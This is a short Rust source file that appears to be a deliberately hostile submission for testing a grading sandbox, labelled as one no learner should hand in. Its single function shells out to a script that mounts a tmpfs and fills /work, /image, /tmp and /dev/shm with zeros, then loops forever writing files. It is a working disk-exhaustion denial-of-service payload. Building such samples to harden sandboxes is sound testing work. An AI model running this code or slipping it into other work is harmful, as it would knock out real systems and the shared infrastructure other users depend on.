//! A submission that no learner should hand in.

use std::path::Path;

use process::Result;

/// Fills every file system that it has or can mount.
pub fn pivot(_: &Path) -> Result<()> {
    let script = "mkdir -p /tmp/more; mount -t tmpfs -o size=100% more /tmp/more
        for place in /work /image /tmp /tmp/more /dev/shm; do
            cat /dev/zero > $place/zeros & done; wait
        while :; do head -c 9999999 /dev/zero > /tmp/more/$((n += 1)); done";
    let _ = std::process::Command::new("sh").args(["-c", script]).status();
    Ok(())
}
